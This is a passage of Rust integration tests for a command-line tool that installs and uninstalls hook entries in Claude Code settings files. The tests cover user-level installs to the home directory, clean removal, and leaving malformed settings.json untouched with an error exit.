    run_ok(&repo, &["uninstall", "--claude-code"]);
    assert_eq!(settings(&file), original);
}

#[test]
fn user_install_writes_to_home() {
    let repo = TestRepo::git_init();
    run_ok(&repo, &["install", "--claude-code", "--user"]);
    let file = repo.home().join(".claude/settings.json");
    assert_eq!(staunch_groups(&settings(&file)).len(), 1);
    assert!(!repo.path().join(".claude").exists());
    run_ok(&repo, &["uninstall", "--claude-code", "--user"]);
    assert!(
        !file.exists(),
        "a settings file holding nothing else is removed"
    );
}

#[test]
fn bad_settings_json_is_left_untouched() {
    let repo = TestRepo::git_init();
    let bad = "{\n  \"hooks\": {\"PreToolUse\": [,]}\n";
    repo.write(".claude/settings.json", bad);
    for command in ["install", "uninstall"] {
        let out = repo.run(&[command, "--claude-code"], None);
        assert_eq!(out.status.code(), Some(2), "{command}");
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(stderr.contains("settings.json"), "{stderr}");
        let now = std::fs::read_to_string(repo.path().join(".claude/settings.json")).unwrap();
        assert_eq!(now, bad, "{command} touched the file");
    }
}
